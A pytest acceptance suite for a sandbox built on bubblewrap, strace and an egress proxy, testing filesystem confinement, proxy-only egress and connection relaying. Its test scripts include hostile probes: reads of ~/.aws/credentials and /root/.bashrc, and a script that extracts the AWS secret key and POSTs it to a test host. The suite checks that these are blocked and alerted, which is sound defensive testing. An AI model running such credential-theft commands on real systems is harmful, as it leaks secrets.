"""Acceptance: a real bubblewrap sandbox under the real strace backend, a real proxy, loopback only."""

from __future__ import annotations

import os
from pathlib import Path

import pytest
from sandbox_helpers import Servers, needs_bwrap, needs_strace, run_sandboxed

pytestmark = [needs_bwrap, needs_strace]

ISOLATION = r"""
r() { echo "$1=$2" >> results.txt; }
touch /etc/spyglass-probe 2>/dev/null; r etc $?
echo hi > in-ws.txt; r ws $?
echo t > /tmp/t.txt; r tmp $?
cat ~/.aws/credentials > /dev/null; r honey $?
cat /root/.bashrc > /dev/null 2>&1; r realroot $?
cat secret.key > /dev/null 2>&1; r hiddenfile $?
ls /run/spyglass | tr '\n' ' ' > run.txt
r pid $$
r nnp "$(grep NoNewPrivs /proc/self/status | cut -f2)"
r capeff "$(grep CapEff /proc/self/status | cut -f2)"
r home "$HOME"
r fds "$(ls /proc/self/fd | wc -l)"
"""


def results(ws: Path) -> dict[str, str]:
    return dict(line.split("=", 1) for line in (ws / "results.txt").read_text().splitlines())


def test_file_system_confinement_and_host_paths(tmp_path: Path) -> None:
    run = run_sandboxed(tmp_path, ISOLATION, files={"secret.key": "s3cr3t"}, hidden=["secret.key"])
    r = results(run.ws)
    assert r["etc"] != "0" and not os.path.exists("/etc/spyglass-probe")
    assert r["ws"] == "0" and (run.ws / "in-ws.txt").read_text() == "hi\n"
    assert r["tmp"] == "0" and not os.path.exists("/tmp/t.txt")
    assert r["honey"] == "0" and r["realroot"] != "0" and r["hiddenfile"] != "0"
    assert (run.ws / "run.txt").read_text().split() == ["proxy.sock", "relay.py"]
    assert int(r["pid"]) < 10  # its own PID namespace
    assert r["nnp"] == "1" and r["capeff"] == "0000000000000000"
    assert r["home"] == str(tmp_path / "home")

    info = run.outcome.meta.extra["sandbox"]
    work = tmp_path / "work"
    assert (work / "tmp" / "t.txt").read_text() == "t\n"  # the private /tmp lives in the run's directory
    ev = run.events()
    denied = [e for e in ev if e.type == "sandbox.denied"]
    assert any(
        e.reason == "read-only" and e.path == "/etc/spyglass-probe" and e.errno == "EROFS" for e in denied
    )
    assert any(e.reason == "hidden" and e.path == "/root/.bashrc" for e in denied)
    assert any(e.reason == "hidden" and e.path == str(run.ws / "secret.key") for e in denied)
    # events carry host paths; the sandbox's spelling stays in raw_path
    creds = str(work / "home" / ".aws" / "credentials")
    assert creds in info["honeytokens"]
    read = [e for e in ev if e.type == "file.read" and e.path == creds]
    assert read and read[0].raw_path == str(tmp_path / "home" / ".aws" / "credentials")
    assert any(e.type == "file.create" and e.path == str(work / "tmp" / "t.txt") for e in ev)
    # the sandbox's own setup (mounts, the relay) is not in the record; its processes are
    assert not [e for e in ev if e.type == "sys.sensitive" and e.syscall == "mount"]
    assert any(e.type == "process.exec" and e.exe and e.exe.endswith("bwrap") for e in ev)
    # a honeytoken read is an alert
    assert "cred-honeytoken-access" in {a.rule_id for a in run.alerts()}


NETWORK = r"""
curl -sS --cacert cert.pem https://allowed.test/ > allowed.txt 2> allowed.err
curl -s --cacert cert.pem -o /dev/null -w '%{http_connect}' https://denied.test/ > denied.txt
curl -s -k -o /dev/null -w '%{http_connect}' https://1.1.1.1/ > literal.txt
curl -s -o plain.txt http://allowed.test/plain
python3 - <<'PY' > raw.txt 2>&1
import socket
try:
    socket.create_connection(("192.0.2.1", 80), timeout=5)
except OSError as e:
    print(e.errno)
PY
"""


def test_egress_only_through_the_proxy(tmp_path: Path, servers: Servers) -> None:
    run = run_sandboxed(tmp_path, NETWORK, servers=servers)
    ws = run.ws
    assert (ws / "allowed.txt").read_text() == "hello from allowed.test\n", (ws / "allowed.err").read_text()
    assert (ws / "denied.txt").read_text() == "403"
    assert (ws / "literal.txt").read_text() == "403"
    assert (ws / "plain.txt").read_text() == "hello from allowed.test\n"
    assert (ws / "raw.txt").read_text().strip() == "101"  # ENETUNREACH
    ev = run.events()
    procs = {e.pid: e for e in ev if e.type == "process.exec"}
    proxied = [e for e in ev if e.type == "proxy.request"]
    by_host = {(e.address, e.port): e for e in proxied}
    ok = by_host[("allowed.test", 443)]
    assert (ok.decision, ok.method, ok.rule) == ("allow", "CONNECT", "allowed.test") and ok.bytes_in
    assert procs[ok.pid].exe == "/usr/bin/curl"  # attributed to the process that asked
    no = by_host[("denied.test", 443)]
    assert (no.decision, no.reason, no.rule) == ("deny", "denied-by-rule", "denied.test")
    lit = by_host[("1.1.1.1", 443)]
    assert (lit.decision, lit.reason) == ("deny", "ip-literal")
    assert by_host[("allowed.test", 80)].method == "GET"
    # nothing ever went to 1.1.1.1: not from the sandbox, not from the proxy outside it
    assert not [e for e in ev if e.type == "net.connect" and e.address == "1.1.1.1"]
    assert all(addr == "127.0.0.1" for addr, _port in run.sandbox.proxy.upstream_attempts)
    raw = [e for e in ev if e.type == "sandbox.denied" and e.reason == "no-route"]
    assert raw and raw[0].address == "192.0.2.1" and raw[0].errno == "ENETUNREACH"
    assert procs[raw[0].pid].exe and "python" in procs[raw[0].pid].exe


EXFIL = r"""
python3 - <<'PY'
import os, re, urllib.request
text = open(os.path.expanduser("~/.aws/credentials")).read()
secret = re.search(r"aws_secret_access_key = (\S+)", text)[1]
req = urllib.request.Request("http://allowed.test/upload", data=("k=" + secret).encode(), method="POST")
try:
    urllib.request.urlopen(req, timeout=10)
except Exception as e:
    print(type(e).__name__)
PY
touch after-exfil.txt
"""


@pytest.mark.parametrize("mode", ["contain", "enforce"])
def test_canary_exfiltration_is_blocked_and_alerted(tmp_path: Path, servers: Servers, mode: str) -> None:
    before = len(servers.received)
    run = run_sandboxed(tmp_path, EXFIL, servers=servers, mode=mode)
    canary = run.outcome.meta.extra["sandbox"]["canary"]
    assert all(canary.encode() not in r.body for r in servers.received[before:])  # never left
    hit = [e for e in run.events("proxy.request") if e.detail == "canary"]
    assert hit and (hit[0].decision, hit[0].address, hit[0].method) == ("deny", "allowed.test", "POST")
    alerts = {a.rule_id: a for a in run.alerts()}
    assert alerts["test-canary-egress"].level == "critical"
    assert "cred-honeytoken-access" in alerts
    if mode == "enforce":
        assert run.outcome.meta.stopped_by == "test-canary-egress"
        assert not (run.ws / "after-exfil.txt").exists()  # dead before its next command
    else:
        assert run.outcome.meta.stopped_by is None
        assert (run.ws / "after-exfil.txt").exists()


RELAY = r"""
curl -sS -m 120 -o big.bin http://allowed.test/big/20000000
for i in $(seq 10); do curl -sS -m 120 --cacert cert.pem -o par$i.txt https://allowed.test/p$i & done; wait
python3 - <<'PY' > halfclose.txt
import socket
# every wait is bounded: a lost half-close ends this at once, saying where, instead of hanging the run
stage, out = "connecting", b""
try:
    s = socket.create_connection(("127.0.0.1", 3128), timeout=60)
    stage = "waiting for the CONNECT answer"
    s.sendall(b"CONNECT allowed.test:7 HTTP/1.1\r\n\r\n")
    while b"\r\n\r\n" not in out:
        d = s.recv(1)
        if not d:
            raise EOFError
        out += d
    stage, out = "sending", b""
    s.sendall(b"q" * 300000)
    s.shutdown(socket.SHUT_WR)
    stage = "waiting for the answer and EOF after our half-close"
    while d := s.recv(65536):
        out += d
    print(out.decode().strip())
except (OSError, EOFError) as exc:
    print(f"failed {stage}: {type(exc).__name__} (got {out!r})")
PY
"""


def test_the_relay_carries_large_parallel_and_half_closed_connections(
    tmp_path: Path, servers: Servers
) -> None:
    run = run_sandboxed(tmp_path, RELAY, servers=servers, rules=False)
    ws = run.ws
    assert (ws / "big.bin").stat().st_size == 20_000_000
    assert all((ws / f"par{i}.txt").read_text() == "hello from allowed.test\n" for i in range(1, 11))
    reqs = run.events("proxy.request")
    tunnel = [(e.decision, e.reason, e.bytes_out, e.bytes_in) for e in reqs if e.port == 7]
    # on failure: how far the bytes got (the proxy's byte counts for the half-closed tunnel)
    assert (ws / "halfclose.txt").read_text().strip() == "got 300000 bytes after EOF", tunnel
    assert len(reqs) == 12 and all(e.decision == "allow" for e in reqs)
